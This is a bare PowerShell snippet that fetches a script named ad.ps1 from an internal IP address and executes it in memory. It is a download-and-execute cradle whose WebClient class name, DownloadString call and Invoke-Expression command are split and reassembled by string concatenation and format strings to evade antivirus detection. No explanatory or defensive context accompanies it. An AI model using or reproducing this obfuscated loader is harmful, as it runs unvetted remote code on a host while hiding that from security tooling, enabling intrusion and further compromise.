$a = 'Net.'
$b = 'WebClient'
$wc = New-Object ($a + $b)
$src = 'http://10.11.4.20/ad.ps1'
$txt = $wc.('Down' + 'load' + 'String')($src)
.("{1}{0}" -f 'X', 'IE') $txt
